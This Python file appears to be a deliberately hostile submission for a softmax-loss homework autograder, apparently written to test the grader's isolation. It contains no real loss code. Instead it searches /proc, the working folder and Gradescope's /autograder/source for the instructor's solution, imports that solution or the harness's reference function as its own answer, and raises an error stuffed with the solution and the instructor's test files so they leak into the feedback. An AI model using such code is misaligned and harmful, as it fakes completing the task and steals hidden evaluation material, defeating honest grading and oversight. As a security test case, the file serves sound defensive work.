"""Hostile: no loss code of its own. It looks for the grader's files wherever a child can see them
(its command line, its and its parent's working folders and command lines, Gradescope's
/autograder/source) and for the reference in the harness's own process; softmax_loss_naive
answers with what it finds, softmax_loss_vectorized raises an error holding the files it read, to
be printed as feedback."""
import importlib
import os
import sys
import types

MARKER = "# BEGIN " + "SOLUTION"        # spelled apart, so this file is not taken for the solution

def _places():
    seen = [sys.argv[0], os.getcwd(), "/autograder/source"]
    for pid in ("self", str(os.getppid())):
        for link in ("cwd", "exe"):
            try:
                seen.append(os.readlink(f"/proc/{pid}/{link}"))
            except OSError:
                pass
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                seen += [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a.startswith(b"/")]
        except OSError:
            pass
    for path in seen:
        path = os.path.abspath(path)
        for _ in range(4):
            yield path
            path = os.path.dirname(path)


def _grader_root():
    """A folder holding the solution's classifiers/softmax.py (its markers give it away)."""
    for place in _places():
        try:
            with open(os.path.join(place, "classifiers", "softmax.py")) as f:
                if MARKER in f.read():
                    return place
        except OSError:
            pass
    return None


def _stolen():
    main = sys.modules.get("__main__")
    if hasattr(main, "reference_softmax"):          # the harness's own reference, in this very process
        import numpy as np
        return lambda W, X, y, reg: main.reference_softmax(W, X, y, reg, np)
    root = _grader_root()
    if root is None:
        raise RuntimeError("nothing of the grader was found")
    package = types.ModuleType("stolen")
    package.__path__ = [os.path.join(root, "classifiers")]
    sys.modules["stolen"] = package
    sys.path.insert(0, root)
    return importlib.import_module("stolen.softmax").softmax_loss_vectorized


def softmax_loss_naive(W, X, y, reg):
    return _stolen()(W, X, y, reg)


def softmax_loss_vectorized(W, X, y, reg):
    root = _grader_root()
    leaked = []
    for name in ("classifiers/softmax.py", "instructor/cases.py", "instructor/checks.py"):
        try:
            with open(os.path.join(root, name)) as f:
                leaked.append(f.read())
        except (OSError, TypeError):
            pass
    raise RuntimeError("\n".join(leaked) or "nothing of the grader was found")
